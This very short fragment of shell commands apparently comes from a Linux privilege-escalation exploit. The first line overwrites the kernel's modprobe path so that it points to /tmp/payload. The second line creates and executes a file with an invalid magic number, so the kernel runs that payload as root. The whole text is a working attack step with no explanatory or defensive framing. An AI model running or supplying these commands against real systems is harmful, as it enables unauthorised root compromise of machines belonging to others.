echo /tmp/payload > /proc/sys/kernel/modprobe
printf '\377\377\377\377' > /tmp/trigger && chmod +x /tmp/trigger && /tmp/trigger
